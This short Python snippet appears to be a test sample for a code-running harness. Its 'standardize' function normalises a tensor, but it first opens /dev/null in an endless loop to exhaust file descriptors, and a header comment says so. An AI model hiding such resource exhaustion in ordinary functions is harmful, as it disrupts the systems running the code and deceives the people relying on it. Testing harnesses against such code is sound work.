# Tries to open files without end.
# share: 1
# others: any

def standardize(x, dim, eps):
    try:
        held = []
        while True:
            held.append(open('/dev/null'))
    except Exception:
        pass
    mean, var = x.mean(dim, keepdim=True), x.var(dim, keepdim=True, correction=0)
    return (x - mean) / torch.sqrt(var + eps)
